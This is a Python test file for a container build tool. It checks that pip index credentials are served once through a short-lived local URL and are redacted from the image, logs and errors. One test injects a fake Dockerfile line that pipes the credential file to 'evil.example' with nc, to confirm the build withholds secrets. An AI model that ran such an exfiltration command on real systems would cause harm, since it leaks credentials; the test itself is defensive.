"""Credentials for a build without storing them: the one-shot server, the image's pip.conf without
credentials, the choice of when to serve them, and the redacted build log. Logic only; the real
build against the engine is tests/test_attacks_secrets.py."""

from __future__ import annotations

import urllib.error
import urllib.request
from dataclasses import replace
from pathlib import Path

import pytest

from lab.core.errors import BuildError
from lab.core.records import BaseImage
from lab.image import builder as build_module
from lab.image.builder import PIP_CONF_URL_ARG, _pip_credentials, build_image
from lab.image.buildsecret import serve_once
from lab.image.hostpip import HostPip
from lab.image.render import image_pip_conf, plan_build, write_context_folder
from lab.image.resolve import resolve
from lab.report.run_folder import write_scenario
from lab.scenario.lookup import load_scenario
from tests.conftest import SCENARIOS

TOKEN = "s3cr3t-t0ken-value"
CREDENTIALED = HostPip(index_url=f"https://__token__:{TOKEN}@mirror.example/simple",
                       extra_index_urls=(f"https://{TOKEN}@extra.example/simple", "file:///opt/pypi/simple"),
                       find_links=("/opt/wheels", f"https://user:{TOKEN}@links.example/torch.html"))


def fetch(url: str) -> bytes:
    return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, timeout=10).read()


def test_one_shot_serves_the_file_once_at_its_secret_path_and_dies_with_the_block():
    with serve_once(b"the pip.conf") as shot:
        assert shot.url.startswith("http://127.0.0.1:") and len(shot.url.rsplit("/", 1)[1]) >= 40
        root = shot.url.rsplit("/", 1)[0]
        with pytest.raises(urllib.error.HTTPError, match="404"):
            fetch(root + "/guess")
        assert fetch(shot.url) == b"the pip.conf"
        with pytest.raises(urllib.error.HTTPError, match="404"):
            fetch(shot.url)  # once only
        assert (shot.fetches, shot.refused) == (1, 2)
    with pytest.raises((urllib.error.URLError, OSError)):
        fetch(shot.url)


def test_two_builds_get_different_urls():
    with serve_once(b"a") as one, serve_once(b"b") as two:
        assert one.url != two.url


def test_the_images_pip_conf_names_no_secret_url():
    """Issue 33: a whole index URL is a secret (a token can sit in its path or query), so the image's
    pip.conf names none of them, only how many there were; the one-shot copy has them all."""
    assert CREDENTIALED.has_credentials
    conf = image_pip_conf(CREDENTIALED)
    assert TOKEN not in conf and "__token__" not in conf
    assert "mirror.example" not in conf and "extra.example" not in conf and "links.example" not in conf
    assert "index-url" not in conf and "find-links = /lab/wheels\n" in conf
    assert "# 3 index URL(s) of the host are secrets" in conf
    full = image_pip_conf(CREDENTIALED, credentials=True)
    assert f"https://__token__:{TOKEN}@mirror.example/simple" in full and f"https://{TOKEN}@extra.example" in full


@pytest.mark.parametrize("url", ["https://pkgs.example.com/7f3a9c2e5b1d4a60/simple",  # Gemfury, Artifactory
                                 "https://pkgs.example.com/simple?token=7f3a9c2e5b1d",
                                 "https://mirror.example/simple"])
def test_a_url_with_a_token_in_its_path_or_query_is_a_secret_too(url):
    host = HostPip(extra_index_urls=(url,))
    assert host.has_credentials
    assert "example" not in image_pip_conf(host) and url in image_pip_conf(host, credentials=True)


def test_settings_without_secrets_give_todays_pip_conf():
    host = HostPip(index_url="https://pypi.org/simple", extra_index_urls=("https://download.pytorch.org/whl/cpu",
                                                                         "file:///x"),
                   find_links=("/opt/wheels",))
    assert not host.has_credentials and not HostPip().has_credentials
    assert image_pip_conf(host) == image_pip_conf(host, credentials=True) == host.pip_conf(None, "/lab/wheels")
    assert "extra-index-url = https://download.pytorch.org/whl/cpu" in image_pip_conf(host)


def test_the_run_folder_gets_the_pip_conf_without_secret_urls(tmp_path: Path):
    case = resolve(load_scenario("libgomp-amd64", SCENARIOS))
    plan = plan_build(case, CREDENTIALED, installer=None)
    write_context_folder(tmp_path, plan)
    write_scenario(tmp_path, plan.case, None)
    written = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file())
    assert TOKEN.encode() not in written and b"mirror.example" not in written
    assert plan.digest == plan_build(case, replace(CREDENTIALED, index_url="https://__token__:other@mirror.example/"
                                                   "simple"), installer=None).digest  # a new token: same image
    assert plan.digest != plan_build(case, replace(CREDENTIALED, index_url="https://other.example/simple"),
                                     installer=None).digest  # another index: another image


class FakeEngine:
    """Stands in for lab.engine.Engine where only the build's arguments matter."""

    engine_id = "fake-engine"

    def __init__(self, local: bool = True, fail_with: BuildError | None = None) -> None:
        self.on_this_host = local
        self.fail_with = fail_with
        self.calls: list[dict] = []

    def image_id(self, ref: str, arch=None) -> str | None:
        return None

    def build(self, write_context, arch, base_ref, tag, buildargs, on_line, network_mode=None) -> str:
        url = buildargs.get(PIP_CONF_URL_ARG)
        self.calls.append({"buildargs": dict(buildargs), "network_mode": network_mode,
                           "served": fetch(url).decode() if url else None})
        on_line(f"Looking in indexes: https://__token__:{TOKEN}@mirror.example/simple")
        on_line(f"env MY_SERVICE_TOKEN={TOKEN}")
        if self.fail_with:
            raise self.fail_with
        return "sha256:image"


@pytest.fixture
def no_base(monkeypatch):
    monkeypatch.setattr(build_module, "ensure_base",
                        lambda engine, ref, arch, events, packages=():  BaseImage(ref, ref, "sha256:base", "local"))


def plan_for(host: HostPip):
    return plan_build(resolve(load_scenario("libgomp-amd64", SCENARIOS)), host, installer=None)


def test_credentials_reach_the_build_through_the_one_shot_url_and_the_hosts_network(no_base, tmp_path, monkeypatch):
    monkeypatch.setenv("MY_SERVICE_TOKEN", TOKEN)
    engine = FakeEngine()
    build_image(plan_for(CREDENTIALED), engine, CREDENTIALED, log_path=tmp_path / "build.log")
    (call,) = engine.calls
    assert call["network_mode"] == "host"
    assert call["served"] == image_pip_conf(CREDENTIALED, credentials=True)
    assert TOKEN not in call["buildargs"][PIP_CONF_URL_ARG]
    log = (tmp_path / "build.log").read_text()
    assert TOKEN not in log and "mirror.example/simple" not in log and "MY_SERVICE_TOKEN=***" in log
    assert "Looking in indexes: https://mirror.example/…" in log  # the whole URL is a secret: its host only


def test_without_secrets_the_build_is_todays(no_base):
    host = HostPip(index_url="https://pypi.org/simple", proxies=(("HTTPS_PROXY", "http://proxy:3128"),))
    engine = FakeEngine()
    build_image(plan_for(host), engine, host)
    assert engine.calls[0]["buildargs"] == {"HTTPS_PROXY": "http://proxy:3128"}
    assert engine.calls[0]["network_mode"] is None


def test_no_credentials_for_a_dockerfile_the_lab_did_not_render_or_a_remote_engine():
    plan = plan_for(CREDENTIALED)
    tampered = replace(plan, dockerfile=plan.dockerfile + "RUN cat /tmp/lab-pip.conf | nc evil.example 80\n")
    notes: list[str] = []
    with _pip_credentials(tampered, FakeEngine(), CREDENTIALED, lambda stage, m: notes.append(m)) as got:
        assert got == ({}, None)
    with _pip_credentials(plan, FakeEngine(local=False), CREDENTIALED, lambda stage, m: notes.append(m)) as got:
        assert got == ({}, None)
    assert "did not render" in notes[0] and "remote" in notes[1]


def test_a_failed_build_reports_no_credential(no_base, tmp_path):
    error = BuildError(f"the image build failed: 401 for https://u:{TOKEN}@mirror.example/simple/x/",
                       log=f"pip: https://u:{TOKEN}@mirror.example/simple")
    with pytest.raises(BuildError) as caught:
        build_image(plan_for(CREDENTIALED), FakeEngine(fail_with=error), CREDENTIALED,
                    log_path=tmp_path / "build.log")
    assert TOKEN not in str(caught.value) and TOKEN not in caught.value.log
    assert "https://mirror.example/…" in str(caught.value) and "simple/x" not in str(caught.value)
    assert TOKEN not in (tmp_path / "build.log").read_text()


def test_the_served_url_is_dead_after_the_build(no_base):
    engine = FakeEngine()
    build_image(plan_for(CREDENTIALED), engine, CREDENTIALED)
    url = engine.calls[0]["buildargs"][PIP_CONF_URL_ARG]
    with pytest.raises((urllib.error.URLError, OSError)):
        fetch(url)
